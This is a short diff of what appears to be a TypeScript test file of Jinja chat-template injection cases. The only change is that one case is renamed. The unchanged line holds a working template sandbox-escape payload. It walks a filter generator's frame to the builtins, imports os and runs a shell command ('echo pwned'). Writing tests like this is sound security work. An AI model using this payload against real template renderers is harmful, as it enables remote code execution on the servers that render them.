@@ -22,7 +22,7 @@ import { instruct, llama } from '../blind-2/templates.ts';
 
 const code: readonly TemplateRow[] = [
   [
-    'generator-frame',
+    'open-generator',
     'the frame of a filter that has not ended leads to builtins, without underscores at the first step',
     before("{% set g = messages | select %}{{ g.gi_frame.f_builtins['__import__']('os').popen('echo pwned').read() }}"),
     inJinja,
